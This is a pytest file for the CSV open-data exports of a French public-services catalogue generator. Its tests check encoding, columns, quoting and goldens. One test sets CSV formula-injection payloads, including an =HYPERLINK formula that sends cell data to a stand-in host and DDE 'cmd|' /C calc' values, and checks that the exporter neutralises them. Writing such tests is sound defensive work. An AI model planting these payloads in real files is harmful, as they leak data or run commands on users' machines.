"""donnees/offre.csv (exports/tableur.py): opens in Excel, reads back as the data."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from generator.catalog.catalog import Catalog
from generator.outputs.exports.publication import LICENCE_NAME
from generator.rules import urls
from tests.support.goldens import check_golden


def test_csv_opens_in_excel_and_reads_back_as_the_data(site: Path, catalog: Catalog) -> None:
    raw = (site / urls.OPEN_DATA_CSV_URL).read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8 only with it
    assert not raw[3:].startswith(b"#")  # the header is the first line
    text = raw.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    assert [r["id"] for r in rows] == sorted(catalog.dispositifs)
    for row in rows:
        scheme = catalog.dispositifs[row["id"]]
        assert row["titre"] == scheme.titre
        assert row["porteur"] == scheme.porteur
        assert row["porteur_nom"] == catalog.porteurs[scheme.porteur].nom
        assert row["statut"] == scheme.statut
        assert row["publics"].split(" | ") == scheme.publics
        assert row["thematiques"].split(" | ") == scheme.thematiques
        assert row["territoires_couverts"].split(" | ") == catalog.scheme_territories[scheme.id]
        assert row["sources"].split(" | ") == [s.url for s in scheme.sources]
        assert row["resume"] == scheme.resume
        assert row["url"].endswith(urls.page_url("dispositif", scheme.id))
        assert row["licence"] == LICENCE_NAME
    permis = next(r for r in rows if r["id"] == "permis-jeunes-essai")
    assert permis["territoires"] == "247200132"
    assert permis["sigle"] == ""


@pytest.mark.parametrize("path", [urls.OPEN_DATA_CSV_URL, urls.OPEN_DATA_PLACES_CSV_URL])
def test_csv_golden(path: str, site: Path, update_goldens: bool) -> None:
    check_golden(f"exports/{path}", (site / path).read_bytes(), update_goldens)


def test_places_csv_one_row_per_place(site: Path, catalog: Catalog) -> None:
    raw = (site / urls.OPEN_DATA_PLACES_CSV_URL).read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [r["id"] for r in rows] == sorted(catalog.lieux)
    agence = rows[0]
    assert agence["nom"] == "Agence fictive d'essai du Mans"
    assert (agence["code_postal"], agence["commune"], agence["commune_nom"]) == (
        "72000",
        "72181",
        "Le Mans",
    )
    assert agence["telephone"] == "02 00 00 00 01"
    assert agence["courriel"] == "accueil-essai@example.org"
    # Hours in French for a spreadsheet reader, the OSM rule kept beside them.
    assert agence["horaires"].startswith("Du lundi au vendredi : 8 h 30")
    assert agence["horaires_osm"] == "Mo-Fr 08:30-12:30,13:30-16:30; PH off"
    assert agence["zone_desservie"] == "247200132"
    assert agence["territoires_couverts"] == "sarthe"
    assert agence["consulte_le"] == "2026-09-01" and agence["verifie_le"] == ""
    assert agence["url"].endswith("lieux/agence-fictive-le-mans/")
    assert rows[1]["horaires"] == "Sur rendez-vous (essai)."


def test_a_value_with_the_separator_or_a_quote_stays_one_cell(catalog: Catalog) -> None:
    from generator.outputs.exports.tableur import COLUMNS, LIST_SEPARATOR, catalogue_csv

    schemes = dict(catalog.dispositifs)
    schemes["aide-mobilite-essai"] = schemes["aide-mobilite-essai"].model_copy(
        update={"resume": 'Un résumé ; avec "guillemets"\net un saut de ligne.'}
    )
    changed = Catalog(**{**catalog.__dict__, "dispositifs": schemes})
    raw = catalogue_csv(changed, None)
    assert raw.count(b"\r\n") == len(schemes) + 1  # header and rows; the value keeps its \n
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert list(rows[0]) == list(COLUMNS)
    mobilite = next(r for r in rows if r["id"] == "aide-mobilite-essai")
    assert mobilite["resume"] == 'Un résumé ; avec "guillemets"\net un saut de ligne.'
    assert mobilite["url"] == "dispositifs/aide-mobilite-essai/"  # no public address given
    assert LIST_SEPARATOR not in mobilite["titre"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("https://exemple.invalid/?"&A1;"clic")', "'=HYPERLINK("),
        ("+33 2 40 00 00 00", "'+33"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Un résumé = sans danger", "Un résumé = sans danger"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(
    catalog: Catalog, value: str, cell: str
) -> None:
    from generator.outputs.exports.tableur import catalogue_csv

    schemes = dict(catalog.dispositifs)
    schemes["aide-mobilite-essai"] = schemes["aide-mobilite-essai"].model_copy(
        update={"resume": value, "titre": value, "sigle": value}
    )
    changed = Catalog(**{**catalog.__dict__, "dispositifs": schemes})
    rows = csv.DictReader(
        io.StringIO(catalogue_csv(changed, None).decode("utf-8-sig"), newline=""), delimiter=";"
    )
    row = next(r for r in rows if r["id"] == "aide-mobilite-essai")
    for column in ("titre", "sigle", "resume"):
        assert row[column].startswith(cell), column
        assert row[column].removeprefix("'") == value
